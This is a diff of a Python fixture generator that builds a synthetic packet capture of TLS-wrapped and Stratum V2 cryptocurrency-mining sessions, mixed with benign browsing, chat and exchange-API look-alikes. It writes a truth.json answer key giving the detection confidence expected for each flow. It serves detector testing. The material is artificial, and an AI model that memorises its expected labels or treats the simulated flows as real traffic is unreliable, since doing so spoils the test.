+    cap = Capture("encrypted-evasive.pcap", "pcap", [Interface(1, "eth0")])
+    fb = FileBuilder(cap, epoch(2022, 8, 10, 9, 0, 0),
+                     "mining nobody can read: XMRig over TLS 1.2 to pool.supportxmr.com:443 (SNI and certificate "
+                     "name the pool), lolMiner eth-proxy over TLS 1.3 to eth.2miners.com:12020, XMRig over TLS 1.3 "
+                     "to an IP literal on :14433 (no SNI; an earlier DNS answer for xmr-eu1.nanopool.org maps the "
+                     "IP), Stratum V2 (Noise NX: 64 -> 234 bytes, then encrypted frames) on :34254; look-alikes: "
+                     "HTTPS browsing, a TLS chat websocket, a bot polling api.binance.com, ordinary DNS",
+                     ["pcap-le-us", "ethernet", "tls1.2", "tls1.3", "sni", "certificate", "no-sni", "dns-then-tls",
+                      "stratum-v2", "port-443", "port-12020", "port-14433", "port-34254", "websocket-over-tls"])
+    rng = random.Random(8008)
+    b = fb.base_ns
+    T = 1500.0
+    gw = "00:1c:73:8e:00:01"
+
+    def link(ip: str) -> LinkFn:
+        return ether_link(host_mac(ip), gw)
+
+    resolver = Host("192.168.50.1", 64, 0x0010, 0)
+    xmr_tls = Host("192.168.50.23", 64, 0x1100, 502)
+    lol = Host("192.168.50.41", 64, 0x1200, 502)
+    xmr_ip = Host("192.168.50.57", 128, 0x1300, 1026)
+    s19 = Host("192.168.50.88", 64, 0x1400, 1024)
+    desk = Host("192.168.50.10", 128, 0x1500, 1026)
+    bot = Host("192.168.50.12", 64, 0x1600, 502)
+    supportxmr = Host("192.0.2.141", 51, 0x2100, 501)
+    twominers = Host("192.0.2.120", 50, 0x2200, 501)
+    nanopool = Host("198.51.100.214", 49, 0x2300, 501)
+    sv2pool = Host("203.0.113.34", 48, 0x2400, 501)
+    chat = Host("203.0.113.150", 55, 0x2500, 1040)
+    binance = Host("203.0.113.200", 52, 0x2600, 1040)
+    sites = {"www.wikipedia.org": Host("198.51.100.21", 55, 0x2700, 1040),
+             "github.com": Host("198.51.100.113", 54, 0x2800, 1040),
+             "docs.python.org": Host("198.51.100.151", 56, 0x2900, 1040),
+             "www.example.com": Host("198.51.100.34", 54, 0x2A00, 1040)}
+    flows: list[dict[str, Any]] = []
+    dns_by_name: dict[str, dict[str, Any]] = {}
+
+    def dns(client: Host, t: float, port: int, name: str, ip: str) -> None:
+        d = dns_exchange(cap, b, 0, link(client.ip), t, client, resolver, port, rng.getrandbits(16), name, "A", [ip])
+        fb.negatives.append(d)
+        dns_by_name[name] = d
+
+    def record(f: Flow, name: str, confidence: str, identified_by: list[str], *, mining: bool, transport: str,
+               sni: str | None, dns_name: str | None, log: SessionLog | None = None,
+               hidden: dict[str, Any] | None = None, **kw: Any) -> dict[str, Any]:
+        """Add a flow to the section; ``log`` + ``hidden`` (truth_session fields) describe what TLS/SV2 hide."""
+        c, s = f.hosts
+        entry: dict[str, Any] = {"name": name, "client": c.ip, "client_port": f.ports[0], "server": s.ip,
+                                 "server_port": f.ports[1], "proto": "tcp", "transport": transport, "sni": sni,
+                                 "dns_name": dns_name, "mining": mining, "expected_confidence": confidence,
+                                 "identified_by": identified_by, **kw,
+                                 "first_ts": f.first_ts / NS if f.first_ts is not None else None,
+                                 "last_ts": f.last_ts / NS if f.last_ts is not None else None, "packets": f.packets}
+        if log is not None and hidden is not None:
+            full = truth_session(f, log, b, **hidden)
+            entry["hidden"] = {k: full[k] for k in ("dialect", "coin", "algorithm", "agent", "login", "pool",
+                                                    "true_hashrate", "unit", "shares_submitted", "accepted",
+                                                    "rejected", "accepted_work", "submitted_work", "first_share_ts",
+                                                    "last_share_ts", "difficulty_history")}
+            entry["hidden"].update({k: v for k, v in full.items() if k.startswith("sv2_")})
+        flows.append(entry)
+        return entry
+
+    # -- 1. XMRig over TLS 1.2 to pool.supportxmr.com:443: SNI, certificate and DNS all name the pool
+    dns(xmr_tls, 2.0, 43311, "pool.supportxmr.com", supportxmr.ip)
+    chain = cert_chain(rng, "pool.supportxmr.com", ["pool.supportxmr.com", "supportxmr.com"], "letsencrypt", fb.epoch0)
+    hs, t = tls_session(rng, 2.12, 0.061, client_hello(rng, "pool.supportxmr.com", OPENSSL_CIPHERS, OPENSSL_EXTS), False, chain)
+    agent = "XMRig/6.18.0 (Linux x86_64) libuv/1.44.1 gcc/9.3.0"
+    wallet = monero_address("minesweep sample encrypted xmrig tls")
+    H = 14500.0
+    plain, log = sim_xmrig(rng, start=t + 0.01, end=1380.0, hashrate=H, diffs=[(0, 100000)], login=wallet, agent=agent,
+                           algos=XMRIG6_ALGOS, algo="rx/0", rigid="ws-23", escape_slashes=False, keepalive=60.0,
+                           rtt=0.061, height0=2686010, epoch0=fb.epoch0, job_interval=(30.0, 60.0))
+    f = fb.flow(0, link(xmr_tls.ip), xmr_tls, 45550, supportxmr, 443, random.Random(101), 0.061,
+                hs + tls_wrap(rng, plain, False), 2.05, 1380.5, log=log)
+    record(f, "xmrig-tls-pool-sni", "strong", ["sni-pool-domain", "certificate-pool-domain", "dns-answer-pool-domain"],
+           mining=True, transport="tls1.2", sni="pool.supportxmr.com", dns_name="pool.supportxmr.com", log=log,
+           certificate_names=["pool.supportxmr.com", "supportxmr.com"], cipher="ECDHE-RSA-AES256-GCM-SHA384",
+           rhythm="client submit records every ~7 s (Poisson), keepalived every 60 s when idle, server job records "
+                  "every 30-60 s",
+           hidden={"dialect": "monero", "coin": "XMR", "algorithm": "rx/0", "agent": agent, "login": wallet,
+                   "pool": "pool.supportxmr.com", "true_hashrate": H, "unit": "H/s"})
+
+    # -- 2. lolMiner eth-proxy over TLS 1.3 on a non-standard port
+    dns(lol, 5.0, 52201, "eth.2miners.com", twominers.ip)
+    hs, t = tls_session(rng, 5.1, 0.044, client_hello(rng, "eth.2miners.com", OPENSSL_CIPHERS, OPENSSL_EXTS), True,
+                        cert_bytes=2650)
+    eth_wallet = eth_address("minesweep sample encrypted lolminer")
+    H = 124e6
+    plain, log = sim_ethproxy(rng, start=t + 0.01, end=725.0, hashrate=H, share_work=4e9, login=eth_wallet + ".tls01",
+                              rtt=0.044)
+    f = fb.flow(0, link(lol.ip), lol, 50991, twominers, 12020, random.Random(102), 0.044, hs + tls_wrap(rng, plain, True),
+                5.05, 725.5, log=log)
+    record(f, "ethproxy-tls-nonstandard-port", "strong", ["sni-pool-domain", "dns-answer-pool-domain"], mining=True,
+           transport="tls1.3", sni="eth.2miners.com", dns_name="eth.2miners.com", log=log,
+           port_note="2Miners' documented TLS port for ETH is 12020 (plaintext 2020)",
+           rhythm="client getWork records every 4-6 s, hashrate report every ~30 s, server block pushes every ~13 s",
+           hidden={"dialect": "ethproxy", "coin": "ETH", "algorithm": "ethash", "agent": None,
+                   "login": eth_wallet + ".tls01", "pool": "eth.2miners.com", "true_hashrate": H, "unit": "H/s"})
+
+    # -- 3. XMRig over TLS 1.3 to an IP literal (no SNI); the IP came from an earlier DNS answer
+    dns(xmr_ip, 8.0, 61022, "xmr-eu1.nanopool.org", nanopool.ip)
+    hs, t = tls_session(rng, 47.3, 0.039, client_hello(rng, None, OPENSSL_CIPHERS, OPENSSL_EXTS), True, cert_bytes=2500)
+    wallet3 = monero_address("minesweep sample encrypted xmrig ip literal")
+    agent3 = "XMRig/6.18.0 (Windows NT 10.0; Win64; x64) libuv/1.44.1 msvc/2019"
+    H = 4100.0
+    plain, log = sim_xmrig(rng, start=t + 0.01, end=1420.0, hashrate=H, diffs=[(0, 30000)], login=wallet3 + ".pc57",
+                           agent=agent3, algos=XMRIG6_ALGOS, algo="rx/0", rigid=None, escape_slashes=False,
+                           keepalive=60.0, rtt=0.039, height0=2686012, epoch0=fb.epoch0)
+    f = fb.flow(0, link(xmr_ip.ip), xmr_ip, 51877, nanopool, 14433, random.Random(103), 0.039,
+                hs + tls_wrap(rng, plain, True), 47.25, 1420.5, log=log)
+    record(f, "xmrig-tls-ip-literal-dns-mapped", "strong", ["dns-answer-pool-domain"], mining=True, transport="tls1.3",
+           sni=None, dns_name="xmr-eu1.nanopool.org", log=log, dns_ts=dns_by_name["xmr-eu1.nanopool.org"]["ts"],
+           port_note="nanopool's XMR TLS port 14433",
+           hidden={"dialect": "monero", "coin": "XMR", "algorithm": "rx/0", "agent": agent3, "login": wallet3 + ".pc57",
+                   "pool": "xmr-eu1.nanopool.org", "true_hashrate": H, "unit": "H/s"})
+
+    # -- 4. Stratum V2 from an Antminer S19 (Braiins OS) on the SRI default port 34254
+    H = 95e12
+    msgs, log = sim_sv2(rng, start=11.2, end=1440.0, hashrate=H, share_interval=6.0, user="minesweepdemo.s19-88",
+                        endpoint=(sv2pool.ip, 34254), device=("Bitmain", "Antminer S19", "Braiins OS 22.08.1"), rtt=0.052)
+    f = fb.flow(0, link(s19.ip), s19, 40112, sv2pool, 34254, random.Random(104), 0.052, msgs, 11.1, 1440.5, log=log)
+    record(f, "stratum-v2", "strong", ["sv2-noise-handshake-sizes", "sv2-setup-connection-sizes"], mining=True,
+           transport="sv2", sni=None, dns_name=None, log=log, handshake_sizes=[SV2_ACT1, SV2_ACT2],
+           setup_sizes=[log.extra["sv2_setup_connection_bytes"], 22 + 6 + 16],
+           rhythm="SubmitSharesStandard frames (62 bytes) every ~6 s, NewMiningJob every 20-40 s",
+           hidden={"dialect": "sv2", "coin": "BTC", "algorithm": "sha256d", "agent": None,
+                   "login": "minesweepdemo.s19-88", "pool": None, "true_hashrate": H, "unit": "H/s"})
+
+    # -- look-alikes: browsing, a TLS chat websocket, an exchange API bot, DNS
+    for k, (sni, t) in enumerate([("www.wikipedia.org", 30.0), ("github.com", 250.0), ("docs.python.org", 610.0)]):
+        dns(desk, t - 0.05, 57000 + k, sni, sites[sni].ip)
+        f = fb.flow(0, link(desk.ip), desk, 62010 + k, sites[sni], 443, random.Random(110 + k), 0.029,
+                    neg_https_visits(rng, t + 0.04, sni, 0.029, rng.randrange(3, 6)), t, t + 95.0)
+        fb.negative(f, "tls", f"browser on {sni} (TLS 1.3)")
+        record(f, f"https-{sni}", "none", [], mining=False, transport="tls1.3", sni=sni, dns_name=sni)
+    dns(desk, 899.95, 57010, "www.example.com", sites["www.example.com"].ip)
+    chain = cert_chain(rng, "www.example.org", ["www.example.org", "example.com", "www.example.com", "example.org"],
+                       "digicert", fb.epoch0)
+    hs, t = tls_session(rng, 900.04, 0.027, client_hello(rng, "www.example.com", FIREFOX_CIPHERS, FIREFOX_EXTS,
+                                                         ["h2", "http/1.1"]), False, chain)
+    for _ in range(3):
+        hs.append(Msg(t, 0, tls_appdata_for(rng, rng.randrange(350, 500), False)))
+        t += 0.04
+        hs.append(Msg(t, 1, tls_appdata_for(rng, rng.randrange(1200, 1600), False)))
+        t += rng.uniform(2, 6)
+    f = fb.flow(0, link(desk.ip), desk, 62020, sites["www.example.com"], 443, random.Random(114), 0.027, hs, 900.0, t + 10)
+    fb.negative(f, "tls", "browser on www.example.com (TLS 1.2, DigiCert certificate)")
+    record(f, "https-www.example.com-tls12", "none", [], mining=False, transport="tls1.2", sni="www.example.com",
+           dns_name="www.example.com", certificate_names=["www.example.org", "example.com", "www.example.com", "example.org"])
+    # chat: a websocket over TLS held open for the whole capture, pings every 25 s, messages at random
+    dns(desk, 3.0, 57020, "chat.example.org", chat.ip)
+    hs, t = tls_session(rng, 3.1, 0.033, client_hello(rng, "chat.example.org", FIREFOX_CIPHERS, FIREFOX_EXTS,
+                                                      ["http/1.1"]), True, cert_bytes=2900, tickets=2)
+    plain = neg_chat_ws(rng, t + 0.05, 1460.0, "chat.example.org")
+    f = fb.flow(0, link(desk.ip), desk, 62030, chat, 443, random.Random(115), 0.033, hs + tls_wrap(rng, plain, True),
+                3.05, 1470.0)
+    fb.negative(f, "websocket-chat-tls", "chat websocket over TLS 1.3 (chat.example.org), pings every 25 s")
+    record(f, "chat-websocket-tls", "none", [], mining=False, transport="tls1.3", sni="chat.example.org",
+           dns_name="chat.example.org", rhythm="server ping / client pong every 25 s, messages every 8-70 s")
+    # a trading bot polling the exchange's REST API every ~5 s on one keep-alive connection
+    dns(bot, 15.0, 44120, "api.binance.com", binance.ip)
+    hs, t = tls_session(rng, 15.12, 0.058, client_hello(rng, "api.binance.com", OPENSSL_CIPHERS, PYTHON_EXTS,
+                                                       ["http/1.1"]), True, cert_bytes=3400, tickets=2)
+    t += 0.01
+    plain = []
+    while t < 1040.0:
+        sym = rng.choice(["BTCUSDT", "ETHUSDT", "XMRUSDT"])
+        req = http_get(f"/api/v3/ticker/price?symbol={sym}", "api.binance.com", "python-requests/2.28.1",
+                       "Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n")
+        body = jdump({"symbol": sym, "price": f"{rng.uniform(100, 25000):.8f}"}).encode()
+        resp = (f"HTTP/1.1 200 OK\r\nContent-Type: application/json;charset=UTF-8\r\nContent-Length: {len(body)}\r\n"
+                "Connection: keep-alive\r\nx-mbx-uuid: " + "-".join(hx(rng, n) for n in (4, 2, 2, 2, 6))
+                + f"\r\nx-mbx-used-weight: {rng.randrange(1, 40)}\r\nx-mbx-used-weight-1m: {rng.randrange(1, 40)}\r\n"
+                "Strict-Transport-Security: max-age=31536000; includeSubdomains\r\n\r\n").encode() + body
+        plain.append(Msg(t, 0, req))
+        plain.append(Msg(t + 0.058 + rng.uniform(0.003, 0.02), 1, resp))
+        t += rng.uniform(4.0, 6.0)
+    f = fb.flow(0, link(bot.ip), bot, 38844, binance, 443, random.Random(116), 0.058, hs + tls_wrap(rng, plain, True),
+                15.05, 1045.0)
+    fb.negative(f, "tls-exchange-api", "bot polling api.binance.com (exchange, not a pool) every 4-6 s over TLS 1.3")
+    record(f, "exchange-api-binance", "none", [], mining=False, transport="tls1.3", sni="api.binance.com",
+           dns_name="api.binance.com", rhythm="client request records every 4-6 s, each answered at once")
+    for d in fb.negatives:
+        if d["kind"] == "dns" and d["query"] in ("www.wikipedia.org", "github.com", "docs.python.org", "www.example.com",
+                                                 "chat.example.org", "api.binance.com"):
+            flows.append({"name": f"dns-{d['query']}", "client": d["client"], "client_port": d["client_port"],
+                          "server": d["server"], "server_port": 53, "proto": "udp", "transport": "dns", "sni": None,
+                          "dns_name": d["query"], "mining": False, "expected_confidence": "none", "identified_by": [],
+                          "first_ts": d["ts"]})
+    fb.sections["encrypted_evasive"] = {
+        "file": cap.name,
+        "confidence_levels": {"strong": "a pool named by SNI, certificate or a DNS answer for the server address, or a "
+                                        "Stratum V2 Noise handshake (64 -> 234 bytes) followed by SV2-framed turns",
+                              "none": "must not be flagged"},
+        "flows": flows,
+    }
+    return fb
+
+
+BUILDERS = [file_stratum_vlan, file_equihash_sll, file_ethereum_rawip, file_monero_pcapng, file_gbt_null,
+            file_midsession_sll2, file_campus, file_encrypted]
 
 
 def build_all(out_dir: Path) -> dict[str, Any]:
     """Write every sample capture and truth.json into ``out_dir``; return the truth document."""
     out_dir.mkdir(parents=True, exist_ok=True)
     files: dict[str, Any] = {}
+    sections: dict[str, Any] = {}
     for builder in BUILDERS:
         fb = builder()
         data = fb.cap.to_bytes()
         (out_dir / fb.cap.name).write_bytes(data)
+        for name, extra in fb.extra_files.items():
+            (out_dir / name).write_bytes(extra)
         t = fb.truth()
         t["bytes"] = len(data)
         t["sha256"] = hashlib.sha256(data).hexdigest()
         files[fb.cap.name] = t
+        sections.update(fb.sections)
     truth = {"generator": GENERATOR, "version": TRUTH_VERSION, "dialects": list(DIALECTS),
-             "work_per_share_conventions": WORK_CONVENTIONS, "files": files}
+             "work_per_share_conventions": WORK_CONVENTIONS, "files": files, **sections}
     (out_dir / "truth.json").write_text(json.dumps(truth, indent=1, sort_keys=False) + "\n")
     return truth
 
